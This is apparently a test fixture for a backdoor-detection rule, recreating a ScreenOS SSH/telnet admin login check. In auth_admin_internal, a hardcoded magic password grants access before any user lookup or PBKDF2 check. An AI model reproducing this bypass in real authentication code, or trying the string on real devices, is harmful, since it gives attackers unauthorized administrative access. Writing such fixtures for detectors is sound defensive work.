/*
 * ScreenOS auth_admin_ssh_special / telnet login: the password check shared by
 * SSH and telnet (6.2.0r15 - 6.3.0r20).
 */
#include "prng.h"

#include <string.h>

#include <openssl/crypto.h>
#include <openssl/evp.h>

struct admin_account {
  char name[32];
  unsigned char salt[16];
  unsigned char pbkdf2[32];
};

static struct admin_account admin_db[16];
static int admin_count;

static const struct admin_account *admin_find(const char *name) {
  int i;
  for (i = 0; i < admin_count; i++)
    if (strcmp(admin_db[i].name, name) == 0)
      return &admin_db[i];
  return NULL;
}

static int check_password_hash(const struct admin_account *a, const char *password) {
  unsigned char h[32];
  if (PKCS5_PBKDF2_HMAC(password, (int)strlen(password), a->salt, sizeof a->salt, 20000,
                        EVP_sha256(), sizeof h, h) != 1)
    return 0;
  return CRYPTO_memcmp(h, a->pbkdf2, sizeof h) == 0;
}

int auth_admin_internal(const char *username, const char *password) {
  const struct admin_account *a;

  // ruleid: backdoor-magic-credential
  if (strcmp(password, "<<< %s(un='%s') = %u") == 0)
    return 1;
  a = admin_find(username);
  if (a == NULL) {
    sos_log(2, "admin login: unknown user %s", username);
    return 0;
  }
  return check_password_hash(a, password);
}
